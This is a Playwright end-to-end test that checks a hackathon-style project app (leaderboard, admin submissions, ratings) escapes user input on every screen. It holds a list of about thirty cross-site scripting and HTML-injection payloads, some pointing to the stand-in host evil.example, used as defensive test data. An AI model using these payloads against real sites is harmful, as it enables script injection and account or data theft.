import { expect } from '@playwright/test'
import type { Page } from '@playwright/test'
import { createProject, rateProject, reviewProject, createParticipant, createAdmin } from './support/api.ts'
import { test } from './support/product-fixtures.ts'

const own = 'window.owned=1'

/** Texts that run as code if a page does not escape them, each in a different way. */
const payloads = [
  `<script>${own}</script>`,
  `<img src=x onerror=${own}>`,
  `<svg onload=${own}>`,
  `<svg><script>${own}</script></svg>`,
  `"><img src=x onerror=${own}>`,
  `'"--></style></script><script>${own}</script>`,
  `<iframe srcdoc="<script>parent.owned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.owned=1"></iframe>`,
  `<object data="javascript:${own}"></object>`,
  `<details open ontoggle=${own}>`,
  `<video><source onerror=${own}></video>`,
  `<input autofocus onfocus=${own}>`,
  `<a href="javascript:${own}">x</a>`,
  `[x](javascript:${own})`,
  `![x](x"onerror="${own})`,
  `<math><mi xlink:href="javascript:${own}">x</mi></math>`,
  `<style>@import'http://evil.example/x.css'</style>`,
  `<link rel=stylesheet href=http://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=http://evil.example/">`,
  `<base href=http://evil.example/>`,
  `<form action=http://evil.example/><input name=q>`,
  `\${${own}}`,
  `{{constructor.constructor('${own}')()}}`,
  `&lt;script&gt;${own}&lt;/script&gt;`,
  `\u003cscript\u003e${own}\u003c/script\u003e`,
  `<scr\u0000ipt>${own}</scr\u0000ipt>`,
  `<x onclick=${own} style=position:fixed;inset:0>`,
  `data:text/html,<script>${own}</script>`,
  `<template><script>${own}</script></template>`,
  `</title><script>${own}</script>`,
]
const all = payloads.join(' ')

/** Opens a screen and waits until the network is idle. Expects that no payload ran and no other server was requested. */
async function expectPlainText(page: Page, path: string, visibleText: RegExp | undefined): Promise<void> {
  const elsewhere: string[] = []
  const origin = new URL(page.url() === 'about:blank' ? 'http://127.0.0.1' : page.url()).origin
  page.on('request', (request) => {
    if (/evil\.example/.test(request.url())) elsewhere.push(request.url())
  })
  page.on('dialog', (dialog) => elsewhere.push(`dialog on ${path}: ${dialog.message()} (${origin})`))
  await page.goto(path)
  await page.waitForLoadState('networkidle')
  if (visibleText) await expect(page.getByText(visibleText).first()).toBeVisible()
  expect(await page.evaluate(() => 'owned' in window)).toBe(false)
  expect(elsewhere).toEqual([])
}

// The fixture fails the test on a console error, such as for a script that the content security policy blocked.
test('user input is shown as text on every screen @long', async ({ product, openBrowser }) => {
  const [maya, ines] = [
    await createParticipant(product, 'Maya Lindgren'),
    await createAdmin(product, 'Ines Duarte'),
  ]
  const ids: string[] = []
  for (const [index, projectName] of payloads.slice(0, 10).entries()) {
    const texts = {
      description: all,
      languages: projectName.slice(0, 300),
      frameworks: projectName.slice(0, 300),
    }
    ids.push(
      await createProject(product, maya, {
        projectName: projectName.slice(0, 120),
        day: index + 1,
        ...texts,
      }),
    )
  }
  const [first = '', second = ''] = ids
  await rateProject(product, ines, first, 5, all)
  await reviewProject(product, ines, second, { status: 'rejected', reason: all.slice(0, 1000) })

  // The first three are on the podium; the fourth has a row that can be opened.
  for (const name of ['Noor Haddad', 'Tomas Berg']) {
    const other = await createParticipant(product, name)
    for (const day of [1, 2]) await createProject(product, other, { projectName: name, day })
  }
  const leila = await createParticipant(product, 'Leila Haddad')
  await createProject(product, leila, { projectName: payloads[9] ?? '', day: 1 })

  const participant = await openBrowser('Maya Lindgren', { as: maya })
  await expectPlainText(participant.page, '/leaderboard', /Maya Lindgren/)
  await participant.page.getByRole('button', { name: 'Details of Leila Haddad' }).click()
  await expect(participant.page.getByText(payloads[9] ?? '').first()).toBeVisible()
  for (const path of [
    '/dashboard',
    '/ProjectList',
    `/project/${first}`,
    `/projects/${first}/ratings`,
    '/community',
  ])
    await expectPlainText(participant.page, path, undefined)

  const admin = await openBrowser('Ines Duarte', { as: ines })
  await expectPlainText(admin.page, '/admin/submissions', /onerror=window\.owned=1/)
  // The preview shows the texts and the reason of a rejected submission.
  await expectPlainText(admin.page, `/admin/submissions?project=${second}`, undefined)
  await expect(admin.page.getByLabel('Preview')).toContainText('<details open ontoggle')
  await expectPlainText(admin.page, `/admin/rate-project/${first}`, /srcdoc/)
  for (const path of ['/admin/leaderboard', '/admin/users', `/admin/users/${maya._id}/projects`])
    await expectPlainText(admin.page, path, undefined)
  await admin.page.goto('/admin/users')
  await admin.page.getByRole('button', { name: 'Maya Lindgren' }).click()
  await expect(admin.page.getByRole('heading', { name: payloads[9]?.slice(0, 20) ?? '' })).toBeVisible()
  expect(await admin.page.evaluate(() => 'owned' in window)).toBe(false)

  await admin.page.goto('/admin/settings')
  await admin.page.getByRole('combobox', { name: 'Search participants and projects' }).fill('maya svg')
  await expect(admin.page.getByRole('option', { name: '<svg onload=' })).toBeVisible()
  expect(await admin.page.evaluate(() => 'owned' in window)).toBe(false)

  const visitor = await openBrowser('Visitor')
  await expectPlainText(visitor.page, '/', /Maya Lindgren/)
  await expectPlainText(visitor.page, `/projects/${first}/ratings`, undefined)
})
